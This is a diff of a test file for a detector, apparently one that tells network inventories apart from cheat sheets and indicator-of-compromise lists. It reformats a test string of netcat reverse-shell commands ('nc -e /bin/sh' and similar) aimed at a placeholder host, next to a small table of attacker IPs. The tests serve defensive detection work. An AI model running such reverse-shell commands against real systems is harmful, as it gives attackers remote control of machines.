@@ -95,7 +95,9 @@ def test_table_numbers_without_a_port_column_are_not_ports() -> None:
 
 def test_near_misses() -> None:
     # A cheat sheet repeating one placeholder host and port is not an inventory.
-    repeated = "nc -e /bin/sh 10.0.0.1 4242\nncat 10.0.0.1 4242 -e /bin/bash\nnc -c bash 10.0.0.1 4242"
+    repeated = (
+        "nc -e /bin/sh 10.0.0.1 4242\nncat 10.0.0.1 4242 -e /bin/bash\nnc -c bash 10.0.0.1 4242"
+    )
     assert scan(DETECTOR, fenced(repeated, "bash")) == []
     # An indicator-of-compromise list names the attacker's public hosts, not the network.
     iocs = "| indicator | port |\n|---|---|\n| 45.77.1.2 | 443 |\n| 45.77.1.3 | 8443 |\n| 45.77.1.4 | 80 |\n"
